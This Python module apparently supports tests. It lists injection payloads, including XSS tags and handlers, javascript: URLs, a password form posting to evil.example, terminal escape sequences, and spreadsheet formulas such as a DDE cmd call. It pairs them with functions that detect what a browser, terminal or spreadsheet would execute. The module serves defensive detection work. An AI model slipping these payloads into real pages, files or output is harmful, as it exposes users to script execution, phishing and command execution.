"""What a browser, a terminal or a link would take for orders in a text, as another program than ours sees it."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser

PAYLOADS = (
    "<script>alert('in')</script>",
    "<img src=x onerror=alert('in')>",
    "<svg/onload=alert('in')>",
    "<b/onclick=alert('in')>bold</b>",
    '<b title="x"onclick=alert(1)>bold</b>',
    "<a href=\"javascript:alert('in')\">here</a>",
    "<iframe src='https://evil.example/'></iframe>",
    "&lt;script&gt;alert('in')&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<scr<script>ipt>alert('in')</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x onerror=alert('in') ",
    "<custom-login onfocus=alert(1) autofocus>",
    "<!-- unclosed",
    "</script><script>alert(1)</script>",
    "<plaintext>",
    "<form action='https://evil.example/'><input name=password>",
    "\x1b]8;;https://evil.example/\x1b\\here\x1b[2J",
)
"""One of each way in: tags, handlers, nested and escaped and unclosed ones, and orders to a terminal."""

ADDRESSES = (
    "javascript:alert(1)",
    " JavaScript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>x</script>",
)
"""What runs when it is followed, where an address or an identifier is expected."""

FORMULAS = ('=HYPERLINK("https://evil.example/","here")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "＝1+1")
"""What a spreadsheet program takes for a formula when it opens a file with such a cell."""

_RUNS = frozenset(
    {
        *("script", "iframe", "svg", "object", "embed", "applet", "form", "input", "textarea", "math", "meta", "base"),
        *("link", "style", "plaintext", "xmp", "video", "audio", "img", "frame", "frameset", "body", "html", "head"),
        *("title", "template", "noscript", "button", "select"),
    }
)
_ORDERS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
_FOLLOWED = re.compile(r"\s*(?:javascript|vbscript|data):\S", re.IGNORECASE)
_REST_OF_THE_PAGE = (">", '">', "'>", "-->")


def effects(text: str) -> list[str]:
    """Return what would take effect if `text` were put into a page, or written to a terminal, as it stands."""
    found = [f"control character {match[0]!r}" for match in _ORDERS.finditer(text)]
    if "<" in text:
        for rest in _REST_OF_THE_PAGE:
            found += _Tags(text + rest).found
    return found


def followed(value: str) -> bool:
    """Tell whether a value, taken as the address of a link, would be run."""
    return _FOLLOWED.match(re.sub("[\t\n\r]", "", value)) is not None


def formula(cell: str) -> bool:
    """Tell whether a spreadsheet program that opens a file with this cell would compute it."""
    return cell.strip()[:1] in set("=+-@＝＋－＠") and cell.strip() not in set("=+-@")


def strings(document: object) -> Iterator[str]:
    """Yield every text of a document made of lists and dictionaries, names of fields included."""
    if isinstance(document, str):
        yield document
    elif isinstance(document, dict):
        for name, value in document.items():
            yield str(name)
            yield from strings(value)
    elif isinstance(document, list | tuple):
        for value in document:
            yield from strings(value)


class _Tags(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _RUNS or "-" in tag:
            self.found.append(f"<{tag}>")
        self.found += [f"{tag} {name}={value}" for name, value in attrs if value is not None]

    def handle_endtag(self, tag: str) -> None:
        if tag in _RUNS or "-" in tag:
            self.found.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"comment {data}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data}")
